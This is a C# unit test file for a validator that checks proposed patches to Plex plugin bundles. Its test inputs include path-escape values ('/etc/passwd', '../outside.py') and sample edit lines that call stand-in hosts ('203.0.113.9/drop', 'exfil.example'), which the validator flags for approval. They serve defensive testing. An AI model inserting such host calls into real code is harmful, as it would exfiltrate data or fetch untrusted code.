using PlexImprove.Agent.Diagnosis;
using PlexImprove.Agent.Lessons;
using PlexImprove.Agent.Tests.TestSupport;
using PlexImprove.Core.Changes.Files;

namespace PlexImprove.Agent.Tests.Diagnosis;

public sealed class DiagnosticReportValidatorTests : IDisposable
{
    private const string File = "X.bundle/Contents/Code/__init__.py";

    private readonly TempDirectory _plugins = new();

    public DiagnosticReportValidatorTests() => _plugins.Write(File, "a = 1\nb = 2\nb = 2\n");

    [Fact]
    public void Validate_AWellFormedFix_HasNoProblems() =>
        Assert.Empty(CreateSut().Validate(Report(Fix(edits: [new PatchEdit { File = File, Old = "a = 1", New = "a = 3" }]))));

    [Fact]
    public void Validate_EditOldTextTwiceOrMissing_SaysSo()
    {
        var problems = CreateSut().Validate(Report(Fix(edits:
        [
            new PatchEdit { File = File, Old = "b = 2", New = "b = 3" },
            new PatchEdit { File = File, Old = "c = 9", New = "c = 3" },
        ])));

        Assert.Contains(problems, p => p.Contains("occurs 2 times", StringComparison.Ordinal));
        Assert.Contains(problems, p => p.Contains("does not occur in the file", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("/etc/passwd", "must be relative")]
    [InlineData("../outside.py", "contains '..'")]
    [InlineData("Ghost.bundle/Contents/Code/__init__.py", "does not exist")]
    public void Validate_PathOutsideOrMissing_IsAProblem(string path, string expected) =>
        Assert.Contains(CreateSut().Validate(Report(Fix(edits: [new PatchEdit { File = path, Old = "a = 1", New = "a = 3" }]))),
            p => p.Contains(expected, StringComparison.Ordinal));

    [Fact]
    public void Validate_PatchOverTwoBundles_IsAProblem_OneFixPerBundle()
    {
        const string other = "Y.bundle/Contents/Code/__init__.py";
        _plugins.Write(other, "a = 1\n");

        var problems = CreateSut().Validate(Report(Fix(edits:
        [
            new PatchEdit { File = File, Old = "a = 1", New = "a = 3" },
            new PatchEdit { File = other, Old = "a = 1", New = "a = 3" },
        ])));

        Assert.Contains(problems, p => p.Contains("2 bundles (X.bundle, Y.bundle)", StringComparison.Ordinal) && p.Contains("one fix per bundle", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("a = 'http://203.0.113.9/drop'", "203.0.113.9")]
    [InlineData("a = HTTP.Request('https://exfil.example/x')", "exfil.example")]
    public void Validate_EditAddingAHostTheBundleNeverNamed_NeedsApproval(string added, string host) =>
        Assert.Contains(CreateSut().Validate(Report(Fix(edits: [new PatchEdit { File = File, Old = "a = 1", New = added }]))),
            p => p.Contains($"'{host}'", StringComparison.Ordinal) && p.Contains("approval", StringComparison.Ordinal));

    [Fact]
    public void Validate_UnifiedDiffNamingAMissingFile_IsAProblem()
    {
        var patch = new ProposedPatch { Format = PatchFormatKind.UnifiedDiff, Diff = "--- a/Nope.bundle/x.py\n+++ b/Nope.bundle/x.py\n@@ -1 +1 @@\n-a\n+b\n" };

        Assert.Contains(CreateSut().Validate(Report(Fix(patch: patch))), p => p.Contains("does not exist", StringComparison.Ordinal));
    }

    [Fact]
    public void Validate_FieldsIdsMetricsAndLessons_AreChecked()
    {
        var bad = new FixProposal
        {
            Id = "bad id!",
            Title = "",
            Agents = [],
            RootCause = "x",
            ExpectedVsObserved = new ExpectedVsObserved { Expected = "e", Observed = "", DivergencePoint = "d" },
            ExpectedResults = [new ExpectedResult { Metric = "happiness", Direction = ChangeDirection.Increase }, new ExpectedResult { Metric = "successRate", Direction = ChangeDirection.Increase, Target = 75 }],
            Confidence = 1.5,
            LessonsApplied = ["no-such-lesson"],
            Evidence = [new FixEvidence { Kind = "signature", Ref = "sig-unknown" }],
        };

        var problems = CreateSut().Validate(Report(bad, Fix(id: "dup"), Fix(id: "dup")));

        foreach (var expected in new[] { "id must be", "title is required", "agents must name", "expectedVsObserved.observed", "metric 'happiness' is unknown", "between 0 and 1, not 75", "confidence must be", "'no-such-lesson'", "sig-unknown", "used by another fix" })
        {
            Assert.Contains(problems, p => p.Contains(expected, StringComparison.Ordinal));
        }
    }

    public void Dispose() => _plugins.Dispose();

    private DiagnosticReportValidator CreateSut() =>
        new(new PluginsRoot(_plugins.Path), LessonBook.Parse("## diagnose\n- **DO** Pace requests. (id `diagnose-pace`, score 2, tags: http)\n"), ["sig-403"]);

    private static DiagnosticReport Report(params FixProposal[] fixes) => new() { Brain = "test", Fixes = fixes };

    private static FixProposal Fix(string id = "x-fix", IReadOnlyList<PatchEdit>? edits = null, ProposedPatch? patch = null) => new()
    {
        Id = id,
        Title = "t",
        Agents = ["com.plexapp.agents.X"],
        RootCause = "r",
        ExpectedVsObserved = new ExpectedVsObserved { Expected = "e", Observed = "o", DivergencePoint = "d" },
        Patch = patch ?? (edits is null ? null : new ProposedPatch { Format = PatchFormatKind.Edits, Edits = edits }),
        ExpectedResults = [new ExpectedResult { Metric = "http.403", Direction = ChangeDirection.Decrease, Target = 0 }],
        Confidence = 0.5,
        LessonsApplied = ["diagnose-pace"],
        Evidence = [new FixEvidence { Kind = "signature", Ref = "sig-403" }],
    };
}
